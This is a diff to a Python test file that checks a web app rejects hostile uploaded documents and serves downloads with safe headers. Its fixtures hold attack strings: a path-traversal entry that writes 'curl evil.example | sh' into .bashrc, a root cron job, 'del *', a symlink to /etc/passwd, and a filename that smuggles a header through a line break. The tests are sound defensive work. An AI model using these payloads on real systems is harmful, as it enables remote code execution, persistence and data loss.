@@ -257,6 +257,7 @@ def test_a_pdf_that_needs_a_password_or_cannot_be_read_is_refused_saying_why(app
         ("a path out of the folder", docx({"../../home/user/.bashrc": "curl evil.example | sh"}), HIDDEN),
         ("an absolute path", docx({"/etc/cron.d/evil": "* * * * * root sh"}), HIDDEN),
         ("a Windows path", docx({"..\\..\\evil.bat": "del *"}), HIDDEN),
+        ("a symbolic link", docx({"word/media/image1.png": "/etc/passwd"}, links={"word/media/image1.png"}), HIDDEN),
         ("a spreadsheet inside", docx({"word/embeddings/Sheet.xlsx": zip_of({"xl/workbook.xml": "<x/>"})}), HIDDEN),
         ("an OLE object inside", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)}), HIDDEN),
         ("a program inside", odt({"Pictures/setup.png": b"MZ\x90\x00" + bytes(64)}), HIDDEN),
@@ -368,3 +369,26 @@ def test_every_download_is_an_attachment_under_a_sandboxing_policy(app, session,
     assert response.headers["X-Content-Type-Options"] == "nosniff"
     assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
     assert response.headers["Cache-Control"] == "no-store"
+
+
+@pytest.mark.parametrize("side", ["portal", "staff"])
+def test_both_download_routes_send_exactly_these_headers(app, session, make, side):
+    from shared.domain.enums import CaseStatus, Role
+    from unit_tests.test_route_access import quick_sign_in
+
+    resident = make.user(Role.RESIDENT)
+    officer = make.user(Role.OFFICER)
+    case = make.case(resident, make.service(), status=CaseStatus.WITH_TEAM, officer_id=officer.id)
+    _message, (file_id,) = make.message(app, case, attachments=(("Llythyr \"olaf\";\r\nX: y.txt", b"Hello"),))
+    client = app.test_client()
+    quick_sign_in(client, session, officer if side == "staff" else resident)
+    prefix = "/staff" if side == "staff" else ""
+    response = client.get(f"{prefix}/cases/{case.reference}/files/{file_id}")
+    assert response.status_code == 200 and response.data == b"Hello"
+    assert response.headers["Content-Disposition"] == (
+        "attachment; filename=\"Llythyr _olaf__X_ y.txt\"; filename*=UTF-8''Llythyr%20%22olaf%22%3BX%3A%20y.txt")
+    assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
+    assert response.headers["Cache-Control"] == "no-store"
+    assert "X" not in response.headers  # the name's line break added no header
